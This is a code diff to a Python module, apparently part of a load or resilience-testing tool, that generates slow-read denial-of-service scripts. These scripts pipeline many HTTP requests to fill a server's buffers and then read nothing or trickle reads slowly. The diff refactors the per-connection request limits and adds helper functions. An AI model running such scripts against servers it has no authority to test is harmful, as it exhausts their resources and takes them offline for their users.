@@ -50,7 +50,7 @@ FILLING = 200_000
 PIPELINE = 96_000
 # the same for one that reads slowly: bytes, and requests
 _LONG_PIPELINE = 1_000_000
-_REQUESTS = 5_000
+REQUESTS = 5_000
 
 # requests that a crowd which reads nothing makes in all: it holds on to a server, and must not keep it busy
 CROWD_REQUESTS = 20_000
@@ -68,14 +68,14 @@ _BODY = 1_000_000
 
 @dataclass(frozen=True)
 class Facts:
-    """What is known of a target before it is attacked. `size`: bytes of its usual response. `keeps_alive`: it answers
-    several requests on a connection. `rates`: bytes per second to go on with; none for the usual ones."""
+    """What is known of a target before it is attacked. `size`: bytes of its usual response. `most`: the requests
+    that it answers on one connection. `rates`: bytes per second to go on with; none for the usual ones."""
 
     target: Target
     size: int
     websocket: bool
     limit: float
-    keeps_alive: bool = True
+    most: int = REQUESTS
     rates: tuple[float, ...] = ()
 
 
@@ -172,11 +172,11 @@ def _short(target: Target) -> bytes:
 
 
 def _slow_read(facts: Facts) -> Iterator[Script]:
-    """Ask for more than buffers hold, and read nothing, or slowly. A server that closes answers one request only."""
+    """Ask for more than buffers hold, and read nothing, or slowly: for no more than the server answers, because it ends
+    the connection then."""
     short = _short(facts.target)
-    request = short + b"\r\n"
-    most = _REQUESTS if facts.keeps_alive else 1
-    number = min(math.ceil(FILLING / facts.size) + 1, PIPELINE // len(request) + 1, most)
+    request = filler(facts)
+    number = min(math.ceil(FILLING / facts.size) + 1, PIPELINE // len(request) + 1, facts.most)
     start = Script("slow-read", "stalled", opening=request * number, gulp=0, interval=POKE)
     yield start
     poke = replace(start, role="poked", opening=start.opening + short + b"X-Slow: ", piece=b"a", cap=PIPELINE * 2)
@@ -188,15 +188,25 @@ def _slow_read(facts: Facts) -> Iterator[Script]:
         moment *= _ONCE_NEXT
     for rate in facts.rates or READ_RATES:
         number = math.ceil((FILLING + rate * facts.limit * 1.1) / facts.size)
-        if number <= most and number * len(request) <= _LONG_PIPELINE:
+        if number <= facts.most and number * len(request) <= _LONG_PIPELINE:
             gulp = replace(poke, role="dripped", opening=request * number + short + b"X-Slow: ", interval=GULP)
             yield replace(gulp, gulp=round(rate * GULP), rate=rate, cap=2 * _LONG_PIPELINE)
 
 
+def filler(facts: Facts) -> bytes:
+    """Return the request whose responses fill a server's buffers."""
+    return _short(facts.target) + b"\r\n"
+
+
+def longest(facts: Facts) -> int:
+    """Return the most requests that one connection of an attack may make."""
+    most = math.ceil((FILLING + max(READ_RATES) * facts.limit * 1.1) / facts.size)
+    return min(most + 1, _LONG_PIPELINE // len(filler(facts)) + 1, REQUESTS)
+
+
 def fills(facts: Facts) -> bool:
     """Tell if enough can be asked for on one connection to fill a server's buffers."""
-    requests = PIPELINE // (len(_short(facts.target)) + 2) if facts.keeps_alive else 1
-    return requests * facts.size >= FILLING
+    return min(PIPELINE // len(filler(facts)), facts.most) * facts.size >= FILLING
 
 
 def _idle(facts: Facts) -> Iterable[Script]:
